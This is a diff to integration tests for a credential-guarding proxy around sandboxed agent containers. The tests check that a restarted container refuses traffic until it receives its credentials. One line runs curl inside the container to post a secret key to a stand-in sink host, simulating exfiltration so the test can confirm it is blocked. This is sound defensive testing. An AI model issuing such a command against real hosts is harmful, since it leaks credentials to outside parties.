@@ -33,7 +33,7 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
-from tests.integration.dockerkit import HOST_CA, TEST_LABEL, AgentBottle, Env, docker
+from tests.integration.dockerkit import HOST_CA, TEST_LABEL, AgentBottle, Env, connect, docker
 from tests.integration.testca import make_certs
 from tests.integration.upstream import _sidecars_image
 
@@ -220,7 +220,7 @@ def _up(env: Env, sink: Sink) -> Bottle:
     up = env.cli("up", "rt-proxy", "--no-workspace", "--detach", "--yes", "--json",
                  env_extra={"CB_REDTEAM_KEY": REAL})
     b = Bottle(json.loads(up.stdout)["slug"], env)
-    docker("network", "connect", sink.network, b.bundle)
+    connect(sink.network, b.bundle, [sink.host])
     return b
 
 
@@ -414,7 +414,6 @@ def test_a_restarted_bundle_refuses_everything_until_it_has_its_credentials(env:
         else:
             docker("stop", "-t", "1", b.bundle)
             docker("start", b.bundle)
-        docker("network", "connect", sink.network, b.bundle, check=False)
         _wait_proxy(b)
         leak = _marker()
         out = b.sh(f"curl -sS --max-time 20 -w '\\n%{{http_code}}' -d 'k={REAL}' https://sink.test/{leak}")
